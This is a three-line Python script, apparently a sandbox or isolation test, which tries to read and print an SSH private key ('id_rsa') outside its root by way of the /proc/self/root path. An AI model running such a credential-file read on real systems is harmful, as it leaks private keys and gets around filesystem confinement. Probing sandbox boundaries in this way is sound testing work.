"""Read a key by way of /proc."""

from world import OUTSIDE

print(open(f"/proc/self/root{OUTSIDE}/keys/id_rsa").read())
